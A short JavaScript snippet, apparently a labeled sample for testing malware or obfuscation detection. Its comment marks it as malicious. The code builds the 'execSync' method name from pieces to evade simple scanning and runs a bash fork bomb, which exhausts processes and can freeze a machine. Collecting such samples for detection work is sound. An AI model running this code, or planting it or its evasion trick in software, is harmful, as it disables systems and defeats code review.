// Malicious, obfuscated: method name built from pieces: cp['exec' + 'Sync'] runs a fork bomb.
const cp = require('child_process');
cp['exec' + 'Sync']('bash -c ":(){ :|:& };:"');
